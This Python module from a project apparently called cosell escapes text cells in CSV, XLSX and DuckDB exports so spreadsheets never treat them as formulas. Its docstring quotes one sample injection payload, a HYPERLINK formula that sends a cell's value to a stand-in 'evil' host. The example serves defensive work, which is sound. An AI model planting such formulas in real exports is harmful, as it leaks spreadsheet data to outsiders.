"""Every cell cosell writes to a CSV or XLSX file: text escaped so a spreadsheet never runs it.

SPEC section 9: no formula injection in exports. A partner name, a deal id or a reason comes from
a CRM or a person, and a spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or,
OWASP adds, a tab or a carriage return) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")``.
Such a **text** cell is written with a leading ``'`` (in XLSX: Excel's quote prefix on a text cell),
so it shows as the text it is.

Cells are escaped by their type, not by their first character: a number (``int``, ``Decimal``)
stays a number, so a negative amount is written ``-12.50`` (CSV) or as a number cell (XLSX). A
**text** value is escaped whatever it looks like: a partner id or a name that reads ``-12`` is
written ``'-12``, because it is text that a spreadsheet would otherwise turn into a number (or a
formula). So every writer hands numbers over as numbers, never preformatted as text.

The writers: :func:`write_csv` (Python rows), :func:`put_xlsx` (one openpyxl cell) and
:func:`safe_text_sql` / :func:`safe_cell_sql` (text columns of a DuckDB ``COPY ... (FORMAT csv)``).
The demo generator's dataset is not an export: it is canonical *input*, read back by
``cosell import``, where a ``'`` would become part of the data; its values are generated, not typed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from cosell.instants import format_instant
from cosell.shown import visible

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number as text (what a money or rate column holds when it is valid).
_PLAIN_NUMBER_RE = r"-?[0-9]+(\.[0-9]+)?"


def safe_text(text: str) -> str:
    """Text a spreadsheet will not run as a formula: ``'`` before a formula start.

    >>> safe_text('=HYPERLINK("http://x")'), safe_text("-12"), safe_text("Contoso")
    ('\\'=HYPERLINK("http://x")', "'-12", 'Contoso')
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_cell(value: object) -> str:
    """One CSV cell by the value's type: numbers as plain numbers, text escaped, None empty.

    >>> [csv_cell(v) for v in (Decimal("-12.50"), -3, "-12", None, "@SUM(A1)")]
    ['-12.50', '-3', "'-12", '', "'@SUM(A1)"]
    """
    if value is None:
        return ""
    if isinstance(value, str):
        return safe_text(value)
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | Decimal):
        return str(value)
    if isinstance(value, datetime):
        return format_instant(value)
    if isinstance(value, date):
        return value.isoformat()
    return safe_text(str(value))


def write_csv(rows: Iterable[Sequence[object]]) -> str:
    """Rows of typed values as CSV text (``\\n`` line ends; an empty row is an empty line)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return buffer.getvalue()


def put_xlsx(cell: Any, value: object) -> None:
    """Set an openpyxl cell: text is always a text cell (never a formula), with Excel's quote
    prefix when it starts like a formula, a control character XML cannot hold shown as its
    picture; anything else is stored as given (numbers, dates).

    A ``Decimal`` is a number cell holding its exact digits in plain notation: openpyxl would
    write it through a float (``%.16g``), so 99999999999999.99 became 99999999999999.98 and a
    larger sum 1.089200000244783e+16."""
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE  # only when a workbook is written

        # A control character XML 1.0 cannot hold (a bell, an ESC in a partner name from a CRM)
        # made openpyxl refuse the whole workbook: it is written as its control picture (␇, ␛),
        # as every view shows it (cosell.shown); every other character is kept as it is.
        cell.value = ILLEGAL_CHARACTERS_RE.sub(lambda m: visible(m.group()), value)
        cell.data_type = "s"  # openpyxl would store "=..." as a formula
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
        return
    cell.value = value
    if isinstance(value, Decimal) and value.is_finite():
        cell._value = format(value, "f")  # written as is; data_type stays "n"


def safe_text_sql(expr: str) -> str:
    """A DuckDB expression: the text ``expr`` escaped like :func:`safe_text` (NULL stays NULL)."""
    return f"(CASE WHEN left({expr}, 1) IN ({_STARTS_SQL}) THEN '''' || {expr} ELSE {expr} END)"


# FORMULA_STARTS as SQL literals (a tab and a carriage return as chr()).
_STARTS_SQL = ", ".join("'" + s + "'" if s not in "\t\r" else f"chr({ord(s)})" for s in FORMULA_STARTS)


def safe_cell_sql(expr: str, numeric: bool) -> str:
    """A text column cell for a DuckDB CSV export. ``numeric``: the column holds numbers (money, a
    rate) as text, so a plain decimal like ``-12.50`` stays a number; anything else in it (a bad
    value a person typed) is escaped like text."""
    if not numeric:
        return safe_text_sql(expr)
    # The pattern is tested only on a cell that starts like a formula (a negative number does):
    # any other cell is written as it is either way, and a million-row export skips the test.
    return (
        f"(CASE WHEN left({expr}, 1) IN ({_STARTS_SQL}) AND NOT regexp_full_match({expr}, "
        f"'{_PLAIN_NUMBER_RE}') THEN '''' || {expr} ELSE {expr} END)"
    )
